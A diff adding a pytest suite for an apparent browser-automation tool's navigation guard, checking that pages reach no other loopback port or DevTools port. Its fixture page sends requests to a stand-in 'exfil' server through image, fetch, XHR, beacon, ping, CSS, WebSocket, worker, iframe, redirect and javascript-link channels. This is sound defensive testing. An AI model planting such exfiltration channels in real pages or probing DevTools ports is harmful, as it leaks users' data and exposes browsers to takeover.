@@ -1,0 +1,200 @@
+"""Every way a page sends a request goes through the one request policy, whichever way
+the page arrived: an "attacker" server on another loopback port counts 0 hits, while
+the same pages with the policy widened (``allow_private``) reach it through every
+channel, so each zero is the policy's doing."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import AsyncIterator, Iterator
+
+import pytest
+import websockets
+from playwright.async_api import Page
+
+from linewise.runtime.browser.chromium import Browser, BrowserConfig, BrowserSession
+from linewise.runtime.browser.guard import NavigationGuard
+from linewise.runtime.browser.navigation import NavigationPolicy
+from linewise.settings import NavigationSettings
+from tests.support.sites import Site
+
+CHANNELS = ("img", "fetch", "xhr", "beacon", "ping", "css", "ws", "iframe-fetch",
+            "worker-fetch", "sub-redirect", "js-link")
+
+LEAKY = """<html><head><title>t</title>
+<style>body {{ background: url('{exfil}/css'); }}</style></head><body>
+<h1>Leaky</h1><iframe name=sink></iframe>
+<a id=ping href='/landed' target=sink ping='{exfil}/ping'>ping link</a>
+<a id=js href="javascript:fetch('{exfil}/js-link').catch(() => 0)">js link</a>
+<script>
+const settle = (p) => p.then(() => 0, () => 0);
+const img = (src) => new Promise((done) => {{
+  const i = new Image(); i.onload = i.onerror = done; i.src = src; }});
+const xhr = () => new Promise((done) => {{
+  const r = new XMLHttpRequest(); r.onloadend = done; r.open('GET', '{exfil}/xhr');
+  r.send(); }});
+const ws = () => new Promise((done) => {{
+  const s = new WebSocket('{exfil_ws}/ws'); s.onopen = s.onerror = s.onclose = done; }});
+const pristine = () => {{
+  const f = document.createElement('iframe'); document.body.appendChild(f);
+  return settle(f.contentWindow.fetch('{exfil}/iframe-fetch', {{mode: 'no-cors'}})); }};
+const worker = () => new Promise((done) => {{
+  const code = "fetch('{exfil}/worker-fetch', {{mode: 'no-cors'}}).finally(() => "
+             + "postMessage(1))";
+  const w = new Worker(URL.createObjectURL(new Blob([code])));
+  w.onmessage = w.onerror = done; }});
+navigator.sendBeacon('{exfil}/beacon', 'x');
+document.getElementById('ping').click();
+document.getElementById('js').click();
+Promise.all([img('{exfil}/img'), settle(fetch('{exfil}/fetch', {{mode: 'no-cors'}})),
+             xhr(), ws(), pristine(), worker(), img('/hop-to-exfil')])
+  .then(() => settle(fetch('/sync'))).then(() => {{ document.title = 'done'; }});
+</script></body></html>"""
+
+APP = """<html><head><title>t</title></head><body><h1>App</h1><p id=out>waiting</p><script>
+fetch('{api}/data').then((r) => r.text()).then((t) => {{
+  const s = new WebSocket('{api_ws}/echo');
+  s.onopen = () => s.send('ping');
+  s.onmessage = (m) => {{ out.textContent = t + ' ' + m.data; document.title = 'done'; }};
+  s.onerror = () => {{ out.textContent = 'ws failed'; document.title = 'done'; }};
+}}, (e) => {{ out.textContent = 'fetch failed ' + e; document.title = 'done'; }});
+</script></body></html>"""
+
+
+@pytest.fixture
+def servers() -> Iterator[tuple[Site, Site]]:
+    site, exfil = Site(), Site()
+    site.pages = {
+        "/leaky": (200, {}, LEAKY),
+        "/to-leaky": (302, {"Location": "/leaky"}, ""),
+        "/hop-to-exfil": (302, {"Location": "{exfil}/sub-redirect"}, ""),
+        "/hop-to-devtools": (302, {"Location": "{exfil}/json/version"}, ""),
+        "/app": (200, {}, APP),
+        "/to-landed": (302, {"Location": "/landed"}, ""),
+    }
+    site.fill = exfil.fill = {
+        "exfil": f"http://127.0.0.1:{exfil.port}", "exfil_ws": f"ws://127.0.0.1:{exfil.port}",
+    }
+    try:
+        yield site, exfil
+    finally:
+        site.close()
+        exfil.close()
+
+
+async def _session(browser: Browser, start: str, **navigation: object
+                   ) -> tuple[BrowserSession, NavigationGuard]:
+    policy = NavigationPolicy.for_task(NavigationSettings.model_validate(navigation), start,
+                                       devtools_port=browser.devtools_port)
+    guard = NavigationGuard(policy)
+    return await browser.new_session(guard), guard
+
+
+async def _load_and_wait(page: Page, url: str) -> None:
+    await page.goto(url)
+    await page.wait_for_function("document.title === 'done'", timeout=10000)
+
+
+async def _until_hit(site: Site, paths: tuple[str, ...]) -> None:
+    for _ in range(100):
+        if all(site.hits[f"/{p}"] for p in paths):
+            return
+        await asyncio.sleep(0.05)
+
+
+@pytest.mark.parametrize("path", ["/leaky", "/to-leaky"])
+@pytest.mark.parametrize("allowlist", [False, True])
+async def test_no_channel_reaches_another_loopback_port(
+    browser: Browser, servers: tuple[Site, Site], path: str, allowlist: bool
+) -> None:
+    site, exfil = servers
+    start = f"http://127.0.0.1:{site.port}/"
+    extra = {"allow_domains": (f"127.0.0.1:{site.port}",)} if allowlist else {}
+    session, guard = await _session(browser, start, **extra)
+    try:
+        await _load_and_wait(session.page, start + path.lstrip("/"))
+        assert session.page.url == f"{start}leaky"
+    finally:
+        await session.close()
+    assert sum(exfil.hits.values()) == 0, exfil.hits
+    assert site.hits["/hop-to-exfil"] == 1  # the redirect was asked, its hop refused
+
+
+@pytest.mark.parametrize("path", ["/leaky", "/to-leaky"])
+async def test_the_same_page_reaches_every_channel_with_the_policy_widened(
+    browser: Browser, servers: tuple[Site, Site], path: str
+) -> None:
+    """Whichever way it arrives: nothing else (Chromium's Local Network Access checks on
+    a document the guard fulfilled) stands in for the policy."""
+    site, exfil = servers
+    start = f"http://127.0.0.1:{site.port}/"
+    session, _ = await _session(browser, start, allow_private=True)
+    try:
+        await _load_and_wait(session.page, start + path.lstrip("/"))
+        await _until_hit(exfil, CHANNELS)
+    finally:
+        await session.close()
+    assert [c for c in CHANNELS if not exfil.hits[f"/{c}"]] == [], exfil.hits
+
+
+async def test_a_sub_resource_redirect_never_reaches_the_devtools_port(
+    browser: Browser, servers: tuple[Site, Site]
+) -> None:
+    site, devtools = servers  # the counting server stands in for the DevTools port
+    start = f"http://127.0.0.1:{site.port}/"
+    policy = NavigationPolicy.for_task(NavigationSettings(allow_private=True), start,
+                                       devtools_port=devtools.port)
+    session = await browser.new_session(NavigationGuard(policy))
+    try:
+        await session.page.goto(f"{start}to-landed")  # the page's real address space
+        await session.page.evaluate(
+            "fetch('/hop-to-devtools', {mode: 'no-cors'}).catch(() => 0)")
+        await session.page.evaluate(f"new Promise((done) => {{ const s = new WebSocket("
+                                    f"'ws://localhost:{devtools.port}/devtools/browser'); "
+                                    "s.onerror = s.onclose = s.onopen = done; })")
+    finally:
+        await session.close()
+    assert site.hits["/hop-to-devtools"] == 1
+    assert sum(devtools.hits.values()) == 0, devtools.hits
+
+
+@pytest.fixture
+async def echo_server() -> AsyncIterator[int]:
+    async def echo(connection: websockets.ServerConnection) -> None:
+        async for message in connection:
+            await connection.send(f"echo {message}")
+
+    async with websockets.serve(echo, "127.0.0.1", 0) as server:
+        yield next(iter(server.sockets)).getsockname()[1]
+
+
+async def test_a_local_app_calls_an_api_on_another_allowed_port(
+    browser: Browser, servers: tuple[Site, Site], echo_server: int
+) -> None:
+    site, api = servers
+    api.pages = {"/data": (200, {"Access-Control-Allow-Origin": "*",
+                                 "Content-Type": "text/plain"}, "api answered")}
+    site.fill |= {"api": f"http://127.0.0.1:{api.port}", "api_ws": f"ws://127.0.0.1:{echo_server}"}
+    start = f"http://127.0.0.1:{site.port}/"
+    session, _ = await _session(browser, start, allow_domains=(
+        f"127.0.0.1:{site.port}", f"127.0.0.1:{api.port}", f"127.0.0.1:{echo_server}"))
+    try:
+        await _load_and_wait(session.page, f"{start}app")
+        text = await session.page.text_content("#out")
+    finally:
+        await session.close()
+    assert text == "api answered echo ping"
+
+
+async def test_a_public_task_reaches_no_loopback_address(servers: tuple[Site, Site]) -> None:
+    site, exfil = servers
+    config = BrowserConfig(extra_args=("--host-resolver-rules=MAP public.test 127.0.0.1",))
+    start = f"http://public.test:{site.port}/"
+    async with Browser(config) as own:
+        session, _ = await _session(own, start)
+        try:
+            await _load_and_wait(session.page, f"{start}to-leaky")
+        finally:
+            await session.close()
+    assert site.hits["/hop-to-exfil"] == 1
+    assert sum(exfil.hits.values()) == 0, exfil.hits
